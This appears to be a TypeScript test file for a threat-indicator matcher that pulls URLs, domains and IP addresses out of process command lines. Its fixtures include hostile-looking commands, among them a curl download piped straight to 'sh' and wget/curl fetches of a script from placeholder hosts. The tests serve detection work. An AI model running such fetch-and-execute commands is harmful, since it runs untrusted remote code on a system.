import assert from 'node:assert/strict'
import { test } from 'node:test'
import { createIndicatorSet, parseIndicators } from '@rampart/intel'
import { findIndicator, urlsOf } from './indicator-match.ts'
import { started } from './testing/fixtures.ts'

test('URLs are found in a command line, without quotes and punctuation', () => {
  assert.deepEqual(
    urlsOf(`sh -c curl -s "http://a.example/x?y=1"|sh; wget 'ftp://b.example/z', see (https://c.example).`),
    ['http://a.example/x?y=1', 'ftp://b.example/z', 'https://c.example'],
  )
  assert.equal(urlsOf('x://y/'.repeat(100_000)).length <= 64, true)
})

const set = createIndicatorSet(
  parseIndicators('http://dl.example.net/a.sh\nbad.example.org\n203.0.113.66\n2001:db8::66', { name: 'list' })
    .indicators,
)
const cases: ['url' | 'domain' | 'address', string, string | undefined][] = [
  ['url', 'curl http://dl.example.net/a.sh', 'http://dl.example.net/a.sh'],
  ['url', 'curl HTTP://DL.example.net:80/a.sh?x', 'http://dl.example.net/a.sh'],
  ['url', 'curl http://dl.example.net/b.sh', undefined],
  ['domain', 'wget https://user:pw@cdn.bad.example.org:8443/x', 'bad.example.org'],
  ['domain', 'echo bad.example.org', undefined],
  ['address', 'curl http://203.0.113.66:8080/', '203.0.113.66'],
  ['address', 'curl http://[2001:db8::66]/', '2001:db8::66'],
]
for (const [indicator, commandLine, expected] of cases)
  test(`${indicator} in "${commandLine}"`, () => {
    const parameters = { indicator, fields: ['process.commandLine'], urlsInText: true }
    const found = findIndicator(parameters, started(commandLine), set)
    assert.equal(found?.find(({ field }) => field === 'indicator')?.value, expected)
  })
